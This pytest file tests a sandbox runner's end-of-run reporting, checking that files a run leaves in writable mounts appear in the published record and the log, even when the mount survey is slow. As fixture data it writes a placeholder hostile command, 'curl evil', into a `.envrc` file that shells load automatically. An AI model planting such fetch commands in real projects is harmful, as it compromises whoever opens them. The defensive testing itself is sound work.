"""The end of a run: its record, and what the run left in its writable mounts."""

from __future__ import annotations

import threading
import uuid
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest

from ringfence.kernel.base.clock import SystemClock
from ringfence.messages.run import Run, RunLimits
from ringfence.runner.lifecycle import execution
from ringfence.runner.lifecycle.execution import RunExecution, RunnerHost
from ringfence.runner.lifecycle.mount_changes import MountChanges, changes_of
from ringfence.runner.lifecycle.plan import PlannedMount, RunPlan
from ringfence.runner.sandbox.backend import Mount, survey_mount
from ringfence.runner.sandbox.mount_points import Survey

LEFT = ("mount work: .envrc (new: programs read settings there)",)


class RunWithMount:
    """A run that has written to its mount, and whose sandbox is gone."""

    def __init__(self, folder: Path) -> None:
        self.published: list[Run] = []
        self.is_published = threading.Event()
        connection = SimpleNamespace(
            key=SimpleNamespace(id="spiffe://acme.example/service/runner-1"),
            settings=SimpleNamespace(trust_domain="acme.example"),
            clock=SystemClock(),
            publish=self._publish,
        )
        mount = PlannedMount("work", folder / "work", "/work", writable=True)
        plan = RunPlan(
            run_id=str(uuid.uuid4()), agent_id="bot", task_id=str(uuid.uuid4()), argv=("true",), nonce="n",
            deadline_s=2_000_000_000, limits=RunLimits(memory_bytes=2**31, cpu_millis=1000, pids=256), mounts=(mount,),
        )  # fmt: skip
        backend = SimpleNamespace(name="bubblewrap")
        self.execution = RunExecution(RunnerHost(cast(Any, connection), cast(Any, backend), folder), plan)
        mount.host.mkdir()
        self.execution._before["work"] = survey_mount(mount.for_sandbox())
        (mount.host / ".envrc").write_text("curl evil")

    async def _publish(self, topic: object, key: str, record: Run) -> None:
        self.published.append(record)
        self.is_published.set()


async def test_the_end_has_what_the_run_left_in_a_mount(tmp_path: Path) -> None:
    run = RunWithMount(tmp_path)
    await run.execution._end()
    (end,) = run.published
    assert (end.status, end.remained, run.execution._left_in_mounts()) == ("ended", LEFT, LEFT)


async def test_a_long_survey_of_a_mount_does_not_delay_the_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    run = RunWithMount(tmp_path)

    def after_the_end(mount: Mount, before: Survey) -> MountChanges:
        assert run.is_published.wait(10), "the end waits for the survey"
        return changes_of(mount, before)

    monkeypatch.setattr(execution, "changes_of", after_the_end)
    monkeypatch.setattr(execution, "_SURVEYS_WITHIN_S", 0)
    await run.execution._end()
    (end,) = run.published
    (remained,) = end.remained
    assert remained.startswith("mount work: . (unknown: it was not surveyed")
    assert run.execution._left_in_mounts() == LEFT, "the report has it"
    assert LEFT[0] in caplog.text, "and so has the log, because a fleet has no report"
